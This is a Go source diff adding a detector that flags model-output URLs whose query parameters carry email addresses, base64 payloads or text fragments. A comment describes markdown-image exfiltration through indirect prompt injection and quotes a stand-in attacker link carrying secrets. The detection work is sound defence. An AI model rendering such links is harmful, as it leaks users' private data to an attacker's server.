@@ -0,0 +1,92 @@
+package analyzer
+
+import (
+	"encoding/base64"
+	"net/url"
+	"regexp"
+	"strings"
+
+	"github.com/prompt-gateway/pkg/models"
+)
+
+// responseOnlyTypes are builtin detectors that only make sense on model output
+var responseOnlyTypes = map[string]bool{
+	"url_exfiltration": true,
+}
+
+// Exfiltration heuristics for URL query values
+const (
+	minBase64Length   = 32
+	minFragmentWords  = 6
+	minFragmentLength = 80
+)
+
+var (
+	urlPattern    = regexp.MustCompile(`https?://[^\s<>"'\x60)\]]+`)
+	emailPattern  = regexp.MustCompile(`[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}`)
+	base64Pattern = regexp.MustCompile(`^[A-Za-z0-9+/_-]+={0,2}$`)
+)
+
+// matchExfiltrationURL flags URLs whose query string smuggles data out: the
+// markdown-image channel of indirect prompt injection, where the model is
+// tricked into rendering ![](https://attacker/?q=<secrets>) and the client
+// fetches it
+func (a *Analyzer) matchExfiltrationURL(content string) (bool, string, error) {
+	for _, raw := range urlPattern.FindAllString(content, -1) {
+		u, err := url.Parse(raw)
+		if err != nil {
+			continue
+		}
+		for _, values := range u.Query() {
+			for _, v := range values {
+				if reason := exfiltrationReason(v); reason != "" {
+					return true, "exfiltration URL to " + u.Host + " (" + reason + ")", nil
+				}
+			}
+		}
+	}
+	return false, "", nil
+}
+
+// exfiltrationReason explains why a query value looks like smuggled data
+func exfiltrationReason(value string) string {
+	switch {
+	case emailPattern.MatchString(value):
+		return "email address in parameter"
+	case len(value) >= minBase64Length && base64Pattern.MatchString(value) && decodesBase64(value):
+		return "encoded payload in parameter"
+	case len(value) >= minFragmentLength || len(strings.Fields(value)) >= minFragmentWords:
+		return "text fragment in parameter"
+	}
+	return ""
+}
+
+// decodesBase64 reports whether s is valid standard or URL-safe base64 (padded or not)
+func decodesBase64(s string) bool {
+	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
+		if _, err := enc.DecodeString(s); err == nil {
+			return true
+		}
+	}
+	return false
+}
+
+// IsResponseOnly reports whether a policy only applies to model output
+func IsResponseOnly(p models.Policy) bool {
+	return responseOnlyTypes[p.PatternType]
+}
+
+// SplitResponseOnly separates response-only policies from the rest
+func SplitResponseOnly(policies []models.Policy) (general, responseOnly []models.Policy) {
+	for _, p := range policies {
+		if IsResponseOnly(p) {
+			responseOnly = append(responseOnly, p)
+		} else {
+			general = append(general, p)
+		}
+	}
+	if responseOnly == nil {
+		return policies, nil
+	}
+	return general, responseOnly
+}